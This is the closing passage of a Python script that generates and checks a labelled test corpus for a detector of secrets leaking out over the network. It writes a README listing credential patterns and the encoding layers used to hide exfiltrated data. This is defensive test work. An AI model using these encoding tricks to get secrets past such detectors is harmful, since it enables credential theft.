    L.append("- `expect`: positive → kebab-case credential/data class; negative → kebab-case benign category.")
    L.append("- `where`: `body`, `url`, `header` or `hostname`.")
    L.append("- `content_type` (optional, bodies only); `content_encoding` (optional, `gzip` or `deflate` = zlib-wrapped, only with `base64`).")
    L.append("- exactly one of `text` (UTF-8 string) or `base64` (raw body bytes, standard base64).")
    L.append("- `header` = one ASCII `Name: value` line; `url` = absolute http(s) ASCII URL with valid percent escapes; `hostname` = bare LDH hostname.\n")
    L.append("## Split by `where`\n")
    L.append("| where | positives | negatives |\n|---|---:|---:|")
    for w in ("body", "url", "header", "hostname"):
        L.append("| %s | %d | %d |" % (w, wp[w], wn[w]))
    L.append("")
    L.append("## Positive classes (%d classes, %d cases)\n" % (len(pc), len(pos)))
    L.append("| class | count |\n|---|---:|")
    for k in sorted(pc):
        L.append("| %s | %d |" % (k, pc[k]))
    L.append("")
    L.append("## Negative categories (%d categories, %d cases)\n" % (len(nc), len(negs)))
    L.append("| category | count |\n|---|---:|")
    for k in sorted(nc):
        L.append("| %s | %d |" % (k, nc[k]))
    L.append("")
    L.append("## Labelling rule (egress)\n")
    L.append("- Positive: anything that would leak a usable credential or a sensitive financial / exfiltration payload if sent out, "
             "including documented example keys and well-known test values (vendor documentation example keys, test card numbers, example IBANs).")
    L.append("- An unmistakable vendor prefix followed by enough characters of that key's alphabet is positive even with a bad checksum or low-entropy filler.")
    L.append("- Passwords and generic keys are positive only where a field or context names them as secrets and the value looks like a real credential; ambiguous dummy words are in neither file.")
    L.append("- Negative: realistic benign egress that superficially resembles secrets (identifiers, digests, hashes, cursors, public keys, masked values and placeholders "
             "made of characters outside the key alphabet or far too short, prose and code that only name secrets, checksum-invalid or wrongly-shaped look-alikes, "
             "publishable keys, ordinary API traffic, compressed benign bodies).")
    L.append("- Positives may be wrapped in encodings (percent/double-percent, form, base64 std/url-safe, base64 of gzip, hex, JSON `\\u` escapes, HTML character references, "
             "quoted-printable, gzip/deflate Content-Encoding). A detector is expected to see through these.\n")
    L.append("## What the checker verifies\n")
    L.append("- every line parses as JSON; only allowed keys; exactly one of `text`/`base64`; ids sequential; labels match the file;")
    L.append("- strict, canonical base64 and successful gzip/deflate decompression; `content_*` keys only on bodies;")
    L.append("- headers are single ASCII `Name: value` lines, URLs absolute http(s) ASCII with valid percent escapes and LDH/IP hosts, hostnames LDH (labels ≤63, total ≤253);")
    L.append("- no duplicate payloads within or across files; no PEM armour anywhere; both files byte-equal to a fresh in-memory regeneration;")
    L.append("- every positive's secret is recovered mechanically from the on-disk line through its recorded decoding layers "
             "(Content-Encoding, percent, form, base64 tokens incl. gzip, hex tokens, `\\u` escapes, HTML references, quoted-printable, separator removal, "
             "delimited-hex normalisation, DNS label joining + hex/base32/base64url);")
    L.append("- checksummed positives are re-validated: Luhn (cards), ISO 13616 mod-97 with country length (IBAN), base58check / bech32 / bech32m (Bitcoin), "
             "EIP-55 via a self-implemented Keccak-256 (Ethereum, where mixed case; Keccak is self-tested against hashlib SHA3 with SHA-3 padding);")
    L.append("- every negative is scanned through decoding views (raw, percent, double-percent, form, HTML, `\\u`, base64 tokens incl. gzip, hex tokens) for accidental secrets: "
             "Luhn-valid 13–19 digit runs, valid IBANs, valid base58check/bech32 addresses, `0x`+40 hex, vendor prefixes followed by key characters, JWTs, "
             "decodable Basic credentials, URL userinfo passwords, bearer values, long random values under secret-named fields, high-entropy hostname labels. "
             "Flagged negatives were regenerated during generation (%d regenerations for this seed)." % regen)
    L.append("- two consecutive generator runs produce byte-identical files.\n")
    L.append("## Independence statement\n")
    L.append("This corpus was written from public knowledge of credential formats (vendor documentation) and exfiltration techniques only. "
             "Its author did not read the engine's source, rules, tests, fixtures, other corpora, or git history, and did not run any detector against it. "
             "All random values are synthetic; the only non-random values are publicly documented example/test values. "
             "It contains no PEM armour, no real private keys and no seed phrases.\n")
    return "\n".join(L)


def main():
    if "--check" in sys.argv:
        errs = check()
        for e in errs[:50]:
            print("ERROR", e)
        print("check: %s (%d errors)" % ("PASS" if not errs else "FAIL", len(errs)))
        sys.exit(1 if errs else 0)
    selftest()
    pos, negs, regen = build()
    dp, dn = render([strip_meta(c) for c in pos]), render([strip_meta(c) for c in negs])
    with open(POS_FILE, "wb") as f:
        f.write(dp)
    with open(NEG_FILE, "wb") as f:
        f.write(dn)
    hp, hn = hashlib.sha256(dp).hexdigest(), hashlib.sha256(dn).hexdigest()
    with open(README, "w", encoding="utf-8") as f:
        f.write(readme(pos, negs, regen, hp, hn))
    print("wrote %d positives, %d negatives (%d negative regenerations)" % (len(pos), len(negs), regen))
    errs = check()
    for e in errs[:50]:
        print("ERROR", e)
    print("check: %s (%d errors)" % ("PASS" if not errs else "FAIL", len(errs)))
    sys.exit(1 if errs else 0)


if __name__ == "__main__":
    main()
